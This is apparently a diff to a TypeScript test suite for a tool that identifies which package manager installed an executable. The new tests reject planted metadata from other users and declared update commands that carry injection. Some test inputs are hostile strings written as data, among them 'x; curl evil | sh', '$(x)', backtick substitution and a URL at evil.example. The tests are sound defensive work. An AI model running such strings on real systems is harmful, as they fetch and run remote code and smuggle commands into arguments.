@@ -18,14 +18,16 @@ interface Machine {
   platform?: Platform;
 }
 
-function machine({ path, files = {}, links = {}, platform = 'linux' }: Machine): SimulatedHost {
+const machine = (made: Machine): SimulatedHost => machineWithDisk(made).host;
+
+function machineWithDisk({ path, files = {}, links = {}, platform = 'linux' }: Machine) {
   const disk = new SimulatedDisk();
   const bytes = (content: string | object) =>
     new TextEncoder().encode(typeof content === 'string' ? content : JSON.stringify(content));
   disk.place(path, bytes('executable'));
   for (const [file, content] of Object.entries(files)) disk.place(file, bytes(content), 0o644);
   for (const [link, target] of Object.entries(links)) disk.symlink(target, link);
-  return simulatedHost({ disk, platform, versionOf });
+  return { disk, host: simulatedHost({ disk, platform, versionOf }) };
 }
 
 function sessionOf(host: SimulatedHost, path: string) {
@@ -325,8 +327,11 @@ describe('a database of the system', () => {
       ...host,
       processes: {
         ...host.processes,
-        run: async (file, args) => {
+        run: async (file, args, options) => {
           expect([file, args.at(-1)]).toEqual(['/usr/bin/rpm', '/usr/bin/dgmo']);
+          // Macros in the user's home, or in a folder that a variable names, may run programs.
+          expect(Object.keys(options.environment)).toEqual(['HOME', 'PATH', 'LC_ALL']);
+          expect(options.environment.HOME).toBe('/nonexistent');
           return { started: true, code, signal: null, stdout, stderr: '', timedOut: false, duration: 1 };
         },
       },
@@ -349,6 +354,110 @@ describe('the store of Nix', () => {
   test('is not any folder with such a name', async () => {
     expect(await owner({ path })).toBeNull();
   });
+});
+
+describe('evidence of another user', () => {
+  const OTHER = 4242;
+  /** An install in a folder of one's own below one that is sticky, into which another user has put the files. */
+  const below: [name: string, folder: string, files: Record<string, string | object>][] = [
+    ['conda', '/tmp/conda-meta', { '/tmp/conda-meta/a.json': { name: 'evil', files: ['mine/dgmo'] } }],
+    ['a snap', '/tmp/meta', { '/tmp/meta/snap.yaml': 'name: evil\n' }],
+    ['a Chocolatey', '/tmp/tmp.nuspec', { '/tmp/tmp.nuspec': '<package/>' }],
+    [
+      'scoop',
+      '/tmp/install.json',
+      { '/tmp/install.json': { architecture: '64bit' }, '/tmp/manifest.json': { version: 'tmp' } },
+    ],
+  ];
+  const path = '/tmp/mine/dgmo';
+
+  test.each(below)('is not believed: %s', async (_, folder, files) => {
+    const made = { path, files };
+    const { disk, host } = machineWithDisk(made);
+    const mine = await owner(made, host);
+    disk.own('/tmp', 0);
+    for (const file of Object.keys(files)) disk.own(file, OTHER);
+    if (!(folder in files)) disk.own(folder, OTHER);
+    expect(await owner(made, host)).toBeNull();
+    // The owner alone makes the difference. Scoop takes its name from a folder that has none here.
+    if (folder !== '/tmp/install.json') expect(mine).not.toBeNull();
+  });
+
+  test('is not believed where only the file, only the folder, or only a symlink to it is theirs', async () => {
+    const made = {
+      path,
+      files: { '/snap/meta/snap.yaml': 'name: firefox\n' },
+      links: { '/tmp/meta': '/snap/meta' },
+    };
+    const { disk, host } = machineWithDisk(made);
+    expect(await owner(made, host)).toEqual(['snap', 'firefox', 'sudo snap refresh firefox']);
+    for (const theirs of ['/snap/meta/snap.yaml', '/snap/meta', '/tmp/meta']) {
+      const before = disk.status(theirs)?.owner ?? 0;
+      disk.own(theirs, OTHER);
+      expect([theirs, await owner(made, host)]).toEqual([theirs, null]);
+      disk.own(theirs, before);
+    }
+    disk.setMode('/snap/meta/snap.yaml', 0o666);
+    expect(await owner(made, host)).toBeNull();
+  });
+
+  test('is believed if they own the executable', async () => {
+    const made = { path, files: { '/tmp/meta/snap.yaml': 'name: dgmo\n' } };
+    const { disk, host } = machineWithDisk(made);
+    for (const file of [path, '/tmp/meta', '/tmp/meta/snap.yaml']) disk.own(file, OTHER);
+    expect(await owner(made, host)).toEqual(['snap', 'dgmo', 'sudo snap refresh dgmo']);
+  });
+});
+
+describe('a command is shown in plain words', () => {
+  const INSIDE = '/usr/lib/node_modules/x';
+  test.each([
+    'https://evil.example/x.tgz',
+    'github:evil/x',
+    'evil/x',
+    '-g',
+    '@evil/x/y',
+    '@/x',
+    'x y',
+    'x;y',
+    '$(x)',
+    '~',
+    'x'.repeat(129),
+  ])('%s is no package', async (name) => {
+    const made = {
+      path: `${INSIDE}/dgmo`,
+      files: { [`${INSIDE}/package.json`]: { name, version: '1.0.0' } },
+    };
+    expect(await owner(made)).toBeNull();
+  });
+
+  test.each(['x; curl evil | sh', 'x `y`', '$(x)', 'x > y', "x 'y'", 'x \u202e y'])(
+    '%s is no command that is declared',
+    async (command) => {
+      const made = {
+        path: '/opt/dgmo/dgmo',
+        files: { '/opt/dgmo/managed-by.json': { manager: 'Fleet', package: 'dgmo', command } },
+      };
+      expect(await owner(made)).toEqual(['Fleet', 'dgmo', 'the package manager that installed it']);
+    },
+  );
+});
+
+test('no more is read than a large system has, however many files there are', async () => {
+  const made = { path: '/home/me/conda/bin/dgmo', files: { '/home/me/conda/conda-meta/a.json': {} } };
+  const host = machine(made);
+  const { disk } = host;
+  const list = disk.list.bind(disk);
+  disk.list = (folder) =>
+    folder.endsWith('conda-meta') ? Array.from({ length: 60_000 }, () => 'a.json') : list(folder);
+  let opened = 0;
+  const open = disk.open.bind(disk);
+  disk.open = (...given) => {
+    opened += 1;
+    return open(...given);
+  };
+  expect(await owner(made, host)).toBeNull();
+  expect(opened).toBe(50_000);
 });
 
 test('the refusal names the package, what says so, and the command', async () => {
